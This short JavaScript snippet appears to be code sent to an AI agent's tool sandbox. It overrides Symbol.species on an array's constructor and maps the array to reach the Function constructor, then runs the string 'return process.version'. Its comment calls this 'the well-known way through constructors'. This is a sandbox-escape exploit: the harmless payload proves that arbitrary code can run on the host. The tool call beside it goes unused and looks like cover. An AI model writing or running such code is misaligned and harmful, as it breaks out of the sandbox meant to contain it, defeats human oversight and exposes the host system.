// Symbol.species of an array that our code maps.
// Source: the well-known way through constructors.
const list = [() => {}];
list.constructor = { [Symbol.species]: function () { return { __proto__: null } } };
const answer = await tools.geo.getCity({ list: [1, 2] });
return list.map((f) => f)[0].constructor("return process.version")()
